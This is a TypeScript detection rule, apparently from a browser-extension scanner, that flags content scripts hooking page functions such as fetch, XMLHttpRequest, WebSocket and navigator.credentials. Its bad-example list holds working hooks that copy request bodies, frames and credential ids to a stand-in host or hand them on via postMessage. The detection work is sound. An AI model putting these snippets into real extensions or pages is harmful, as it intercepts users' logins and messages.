import {
  apiPath,
  type ScriptFacts,
  stringAt,
  WRITE_SIZE,
  writtenObject,
  writtenPropertyIndex,
  writtenValue,
} from '../../facts/javascript/query.ts';
import { replacedBy, replacedFunctions, type Replaced } from '../../extension/replacedFunctions.ts';
import { defineRule } from '../../rule.ts';
import { checkScripts, contentExample } from './checkScripts.ts';
import { isMadeBy } from '../../program/madeOf.ts';
import { runsInPages } from './places.ts';
import { sendingsOf } from './sendings.ts';
import { functionOf } from '../../program/functionOf.ts';
import { callsWithin } from '../../program/callsWithin.ts';
import { first } from '../../facts/first.ts';
import { say } from '../../../texts/say.ts';

const TELLS = /^((parent\.|top\.)?postMessage|(document\.)?dispatchEvent)$/;

export const patchesPageFunctions = defineRule({
  id: 'patches-page-functions',
  title: 'Hooks functions of web pages',
  severity: 'medium',
  confidence: 'medium',
  category: 'code',
  applies: 'extension',
  cwe: 'CWE-506',
  references: ['https://attack.mitre.org/techniques/T1056/004/'],
  why: 'Whoever replaces the function a page uses to talk to its server can read and change everything: logins, transfers, messages.',
  remedy: 'Observe requests with webRequest in the background, or leave them alone.',
  check: checkScripts(function* ({ script, file, facts, hit }) {
    if (!runsInPages(facts, file.path)) return;
    for (const { value, target, body, quiet, own } of first(replaced(script))) {
      const fn = script.functions[body];
      if (fn === undefined) continue;
      // Blockers replace functions too; what tells a listener is that it hands on what it hears.
      const inside = (pos: number): boolean => pos >= fn.start && pos < fn.end;
      const out = sendingsOf(script).find(
        (sending) => inside(sending.pos) && sending.kind === 'network' && /^(https?|wss?):\/\/[^*]/.test(sending.to),
      );
      const passesOn =
        !own && callsWithin(script, body, 2).some((call) => TELLS.test(apiPath(script, call.callee) ?? ''));
      if (out !== undefined)
        yield hit(value, {
          severity: 'high',
          confidence: 'high',
          evidence: target,
          message: say('page-function-sent-to', target, out.to),
        });
      else if (passesOn)
        yield hit(value, {
          evidence: target,
          confidence: 'low',
          message: say('page-function-passed-on', target),
        });
      else if (!quiet) yield hit(value, { severity: 'low', confidence: 'low', evidence: target });
    }
  }),
  examples: {
    bad: [
      contentExample(
        'const real = window.fetch; window.fetch = function (...args) { real("https://x.example/l", { method: "POST", body: JSON.stringify(args) }); const b = new Image(); b.src = "https://x.example/i?d=" + args[0]; return real.apply(this, args); };',
      ),
      contentExample(
        'const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { navigator.sendBeacon("https://x.example/x", body); return send.call(this, body); };',
      ),
      contentExample(
        'const real = window.fetch; window.fetch = async function (u, o) { const r = await real(u, o); window.postMessage({ kind: "net", url: u, body: await r.clone().text() }, "*"); return r; };',
      ),
      contentExample(
        'const real = window.fetch; const tell = (o) => window.postMessage({ type: "panel", o }, "*"); window.fetch = async (...a) => { const r = await real(...a); const copy = r.clone(); (async () => { tell({ asked: a[1].body, answer: await copy.text() }); })(); return r; };',
      ),
      contentExample(
        'const Real = window.WebSocket; const mirror = new Real("wss://x.example/m"); window.WebSocket = class extends Real { send(frame) { mirror.send(frame); return super.send(frame); } };',
      ),
      contentExample(
        '(function (box) { ["get", "create"].forEach((n) => { const real = box[n].bind(box); box[n] = async (o) => { const c = await real(o); document.dispatchEvent(new CustomEvent("seen", { detail: c.id })); return c; }; }); })(navigator.credentials);',
      ),
    ],
    good: [
      contentExample(
        'const Real = window.WebSocket; window.WebSocket = class extends Real { send(frame) { console.debug(frame); return super.send(frame); } };',
      ),
      contentExample(
        '(function (box) { ["get", "create"].forEach((n) => { box[n] = () => Promise.reject(new Error("off")); }); })(navigator.credentials);',
      ),
      contentExample(
        'const ethereum = { request: (a) => new Promise((done) => { window.postMessage({ to: "mine", a }, location.origin); wait(done); }) }; if (!window.ethereum) Object.defineProperty(window, "ethereum", { value: ethereum });',
      ),
      contentExample('if (!window.fetch) load("polyfill"); const f = fetch; f("https://api.example.com/");'),
      contentExample(
        'const api = {}; api.fetch = function () { navigator.sendBeacon("https://x.example"); }; class X { open() { window.postMessage("x"); } }',
      ),
    ],
  },
});

/** Those of the platform's credentials too: `for (const name of ['get', 'create']) navigator.credentials[name] = …`. */
function replaced(script: ScriptFacts): Replaced[] {
  const known = (value: number): number | undefined => functionOf(script, value);
  const out = replacedFunctions(script, known);
  if (!script.strings.includes('credentials')) return out;
  for (let at = 0; at < Math.min(script.writes.length, 40_000); at += WRITE_SIZE) {
    const name = writtenPropertyIndex(script, at);
    if (name >= 0 && !/^(get|create)$/.test(stringAt(script, name))) continue;
    const object = 'navigator.credentials';
    const by = writtenValue(script, at);
    if (isMadeBy(script, writtenObject(script, at), object))
      out.push(...replacedBy(script, `${object}.${name < 0 ? '*' : stringAt(script, name)}`, by, by, known));
  }
  return out;
}
